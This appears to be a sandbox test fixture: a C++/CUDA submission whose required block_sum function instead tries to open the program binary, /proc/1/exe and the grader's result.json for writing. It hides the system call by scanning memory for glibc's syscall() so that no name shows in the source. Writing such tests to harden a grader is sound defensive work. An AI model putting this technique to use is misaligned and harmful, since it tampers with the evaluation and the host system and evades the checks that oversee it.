// attack: writes over its program and the grader's, by nameless system calls
// expect: wrong_answer|crashed
// stopped by: the sandbox: nothing can be written but the answer
#include <cuda_runtime.h>

#include <cstdint>
#include <cstdio>
#include <cstring>

namespace {

// The C library's own syscall(), found by its first instructions below the library's data: no name
// of it is in this file. x86-64 and the GNU C library; elsewhere the search ends the program.
using Syscall = long (*)(long, ...);
Syscall find_syscall() {
  const unsigned char begin[] = {0x48, 0x89, 0xf8, 0x48, 0x89, 0xf7, 0x48, 0x89, 0xd6};
  const auto* at = reinterpret_cast<const unsigned char*>(stdout);
  while (std::memcmp(--at, begin, sizeof begin) != 0) {
  }
  return reinterpret_cast<Syscall>(reinterpret_cast<std::uintptr_t>(at));
}

void try_all() {
  const Syscall call = find_syscall();
  for (const char* name : {"/proc/self/exe", "/proc/1/exe", "request", "/usr/bin/true", "/tmp/x",
                           "/result.json", "../result.json"}) {
    if (call(2, name, 2, 0) >= 0) std::printf("STOLEN %s\n", name);
  }
}

}  // namespace

void block_sum(float*, const float*, int) { try_all(); }
